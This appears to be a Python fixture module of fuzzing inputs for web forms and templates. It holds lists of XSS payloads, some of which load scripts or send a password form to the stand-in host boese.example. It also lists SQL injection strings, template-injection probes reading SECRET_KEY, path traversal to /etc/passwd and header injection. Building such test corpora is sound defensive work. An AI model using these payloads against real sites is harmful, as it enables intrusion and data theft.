"""What is put into fields: scripts which call `alert`, load from elsewhere or make an element; and plain nonsense."""

CALL = "alert(1)"
ELSEWHERE = "https://boese.example/x"
EVENTS = [
    *("img src=x onerror", "svg onload", "body onload", "video src=x onerror", "audio src=x onerror", "input autofocus onfocus"),
    *("details open ontoggle", "marquee onstart", "iframe onload", "select autofocus onfocus", "textarea autofocus onfocus"),
    *("object data=x onerror", "a href=x onmouseover", "div onpointerenter", "style onload", "link rel=stylesheet href=x onerror"),
    *("form onsubmit", "button onclick", "p onanimationstart", "embed src=x onload", "image src=x onerror", "keygen autofocus onfocus"),
]  # fmt: skip
TAGS = [f"<{event}={CALL}>" for event in EVENTS]
QUOTED = [
    f"{end}><{TAGS[0][1:]}"
    for end in ('"', "'", "`", "-->", "]]", "*/", '"/', "'/", "</title", "</textarea", "</option")
]
ATTRIBUTES = [
    f"{end} {event}={CALL} x={end}" for end in ('"', "'") for event in ("onfocus", "onmouseover", "autofocus onfocus")
]
SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<<script>script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    f"<script src={ELSEWHERE}.js></script>",
    f"<script src=//{ELSEWHERE[8:]}.js></script>",
    "<script type=module>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<math><mtext><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script-->",
    "\ufeff<script>alert(1)</script>",
    "<scri\x0cpt>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
]
LINKS = [
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)", " javascript:alert(1)"),
    *("javascript&colon;alert(1)", "vbscript:alert(1)", "data:text/html,<script>alert(1)</script>"),
    *("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "//boese.example/x", "blob:https://boese.example/x"),
]  # fmt: skip
MARKDOWN = [
    *(f"[hier]({link})" for link in LINKS),
    f"![Bild]({ELSEWHERE}.png)",
    "![Bild](x' onerror='alert(1))",
    "[hier](https://ort.example \"x' onmouseover=alert(1) '\")",
    "[hier]: javascript:alert(1)\n[hier]",
    "<javascript:alert(1)>",
    "`<img src=x onerror=alert(1)>`",
    "```\n<img src=x onerror=alert(1)>\n```",
    "> <img src=x onerror=alert(1)>",
    "# <img src=x onerror=alert(1)>",
    "|<img src=x onerror=alert(1)>|\n|-|\n|a|",
    "**<img src=x onerror=alert(1)>**",
    "[<img src=x onerror=alert(1)>](x)",
]
ACTIVE = [
    f"<iframe src={ELSEWHERE}></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<object data={ELSEWHERE}></object>",
    f"<embed src={ELSEWHERE}>",
    f"<base href={ELSEWHERE}>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<link rel=stylesheet href={ELSEWHERE}.css>",
    f"<style>@import '{ELSEWHERE}.css';</style>",
    f"<div style='background:url({ELSEWHERE}.png)'>",
    f"<form action={ELSEWHERE}><input name=password>",
    "<form><button formaction=javascript:alert(1)>",
    f"<img src={ELSEWHERE}.png srcset={ELSEWHERE}2.png>",
    f"<video poster={ELSEWHERE}.png>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math href=javascript:alert(1)>x",
    "<a hx-get=/ hx-trigger=load hx-on:load=alert(1)>x",
    "<p data-hx-get=https://boese.example/x data-hx-trigger=load>",
    "<x hx-vals='js:{a:alert(1)}' hx-get=/ hx-trigger=load>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "{% debug %}{{ settings.SECRET_KEY }}",
]
# Taken for templates of ours: the first says what it is not written as, the others break the page.
COMPILED = "7+7=14"
TEMPLATES = ["{{ '7+7='|add:'14' }}", "{% load boese %}", "{{ x|boese }}", "{% include 'boese' %}"]
PAYLOADS = list(dict.fromkeys([*TAGS, *QUOTED, *ATTRIBUTES, *SCRIPTS, *LINKS, *MARKDOWN, *ACTIVE, *TEMPLATES]))

# Texts for forms, and bytes which are no text.
CORPUS = [
    *("", " ", "'", '"', "''", "`", "\\", "\\'", "%", "%s", "%n%n", "%00", "\x00", "a\x00b", "\x1b[31m", "\r\nSet-Cookie: a=b"),
    *("' OR '1'='1", "'; DROP TABLE accounts_user; --", '" OR ""="', "1; SELECT pg_sleep(9)", "') UNION SELECT null--"),
    *("{{ 7*7 }}", "{% load i18n %}", "{% include 'x' %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor}}", "{0.__class__}"),
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "[a](javascript:alert(1))", "]]>", "<!--"),
    *("&amp;", "&#0;", "&lt", "../../etc/passwd", "..\\..\\", "file:///etc/passwd", "http://[::bad", "//boese.example", "C:\\con"),
    *("\u202e", "\u200f\u202bمرحبا", "\u200b", "\ufeff", "\ufffe", "\uffff", "\U0010ffff", "é", "e\u0301" * 99, "ﷺ" * 50, "🏳️\u200d🌈"),
    *("0", "-0", "-1", "1e309", "NaN", "Infinity", "9" * 40, "0x7f", "1_000", "1,5", "1.5", "٣", "²", "½", "1e5", "+1", "--1"),
    *("2147483648", "-2147483649", "9223372036854775808", "1" * 5000, "0.1" * 99, "1e-400"),
    *("2020-02-30", "31.06.2022", "0000-00-00", "9999-12-31", "10000-01-01", "-0001-01-01", "heute", "gestern", "2020/2019"),
    *("../..", "2020-13", "00:00", "24:00", "99:99", "2020-01-01T00:00:00Z", "Herbst 9999", "vor 99999999 Jahren", "seit", "bis"),
    *("null", "None", "undefined", "true", "[]", "{}", '{"a": 1}', '[[[[[["', '{"__proto__": 1}', "[1,2", '"\\ud800"'),
    *("00000000-0000-0000-0000-000000000000", "g" * 36, "0" * 32, "{12345678-1234-5678-1234-567812345678}", "urn:uuid:1"),
    *("a@b", "@", "a@" + "b" * 300, "a\n@b.example", "a@b.example\nBcc: c@d.example", "(" * 200, "[" * 300, "*" * 999, "> " * 400),
    *("x" * 300, "ä" * 30_000, "\n" * 9000, " " * 9000, "a b " * 5000, "# " * 500, "1. " * 900, "|" * 900, "```" * 99),
]  # fmt: skip
RAW = [
    b"\xed\xa0\x80",  # half of a pair of surrogates
    b"\xff\xfe\x00",
    b"\xc0\xaf",
    b"%ED%A0%80",
    b"%u0041",
    b"%",
    b"%zz",
    "Größe".encode("latin-1"),
    "Größe".encode("utf-16"),
    b"\x00" * 99,
]
